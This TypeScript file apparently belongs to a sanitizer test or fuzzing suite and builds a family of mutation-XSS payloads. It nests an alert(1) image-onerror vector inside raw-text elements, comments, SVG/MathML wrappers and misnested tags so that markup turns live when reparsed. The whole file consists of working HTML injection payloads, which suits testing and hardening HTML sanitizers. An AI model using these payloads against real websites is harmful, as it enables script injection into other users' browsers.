import { crossed, family } from "./payload.ts";

/** Whose contents one parser takes for words, and another, or the same one elsewhere, for markup. */
const RAW = ["style", "title", "textarea", "xmp", "iframe", "noembed", "noframes", "noscript", "script"];
const WRAPPERS = [
  "svg",
  "math",
  "math><mtext",
  "svg><desc",
  "svg><foreignObject",
  "table",
  "select",
  "template",
  "form",
  "p",
];

const LIVE = "<img src=x: onerror=alert(1)>";
const hiddenIn = (name: string): string => `<${name}><a title="</${name}>${LIVE}">Words</a>`;

/** Elements that end others, so that a tree is written down in another shape than it is read back. */
const MOVERS = [
  "<table><p>",
  "<p><table><p>",
  "<a><table><a>",
  "<form><div></form><form>",
  "<b><p></b>",
  "<h1><h2>",
  "<li><ul><li>",
];
const DEEP = ["<svg>", "<math><mtext>", "<math><mi><table><mglyph>", "<svg><desc>", "<select><option>"];

export const reparsed = family("reparsed", {
  fires: [
    ...RAW.map(hiddenIn),
    ...RAW.map((name) => `<p>Words.</p><${name.toUpperCase()}>more</${name}>${LIVE}`),
    `<!-->${LIVE}-->`,
    `<!--->${LIVE}-->`,
    `<!--a--!>${LIVE}-->`,
    `<!a>${LIVE}`,
    `<?xml version="1.0"?>${LIVE}`,
    `<![CDATA[ >${LIVE}]]>`,
    `</ x>${LIVE}`,
    `<svg><![CDATA[</svg>]]><style></style></svg>${LIVE}`,
    `<p title="a" title='"><'>${LIVE}`,
    `<plaintext-like>${LIVE}</plaintext-like>`,
  ],
  tries: [
    ...crossed(WRAPPERS, RAW.slice(0, 8), (wrapper, name) => `<${wrapper}>${hiddenIn(name)}`),
    ...crossed(
      DEEP,
      MOVERS,
      (deep, mover) =>
        `${deep}${mover}<style><!--</style><a title="--&gt;${LIVE.replaceAll("<", "&lt;").replaceAll(">", "&gt;")}">x</a>`,
    ),
    `<noscript><p title="</noscript>${LIVE}">Words</p></noscript>`,
    `<template><template>${LIVE}</template></template>`,
    `<svg></p><style><a id="</style>${LIVE}">`,
    `<math></br><style><a id="</style>${LIVE}">`,
    `<plaintext>${LIVE}`,
    `<listing>\n&lt;img src=x: onerror=alert(1)&gt;</listing>`,
    `<pre>\n\n&lt;img src=x: onerror=alert(1)&gt;</pre>`,
    `<p>&lt;img src=x: onerror=alert(1)&gt; &amp;lt;img src=x: onerror=alert(1)&amp;gt;</p>`,
    `<a title="&lt;img src=x: onerror=alert(1)&gt;">&quot;&gt;&lt;img src=x: onerror=alert(1)&gt;</a>`,
    `<img alt="--&gt;&lt;/style&gt;&lt;img src=x: onerror=alert(1)&gt;">`,
    `<img alt="\`&gt;&lt;img src=x: onerror=alert(1)&gt;">`,
    `${"<b>".repeat(300)}${LIVE}`,
    `${"<div>".repeat(520)}<svg><style><!--</style>${LIVE}`,
    `<frameset><frame src="javascript:parent.alert(1)"></frameset>`,
    `<table><svg><desc><td><title><style>${LIVE}</style></title>`,
  ],
});
